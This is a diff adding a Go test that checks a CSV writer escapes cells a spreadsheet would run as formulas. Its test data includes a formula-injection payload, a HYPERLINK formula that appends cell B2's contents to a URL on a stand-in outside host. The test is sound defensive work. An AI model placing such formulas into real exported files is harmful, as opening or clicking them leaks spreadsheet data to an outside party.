@@ -46,3 +46,26 @@ func TestSameFigures(t *testing.T) {
 		t.Errorf("the target is not a number cell: %v", typ)
 	}
 }
+
+// TestCSVNoFormula: text a spreadsheet would run as a formula is written
+// as text; numbers, negative ones too, stay numbers.
+func TestCSVNoFormula(t *testing.T) {
+	tb := Table{Title: "x", Header: []string{"a", "b", "c"}, Rows: [][]any{
+		{`=HYPERLINK("https://x/?"&B2,"SK 12")`, "+1", -5}, {"@SUM(A1)", "SK 470/12", "-x"}}}
+	var c bytes.Buffer
+	if err := tb.WriteCSV(&c); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&c).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := [][]string{{"a", "b", "c"}, {`'=HYPERLINK("https://x/?"&B2,"SK 12")`, "'+1", "-5"}, {"'@SUM(A1)", "SK 470/12", "'-x"}}
+	for i := range want {
+		for j := range want[i] {
+			if recs[i][j] != want[i][j] {
+				t.Errorf("cell %d,%d: %q, want %q", i, j, recs[i][j], want[i][j])
+			}
+		}
+	}
+}
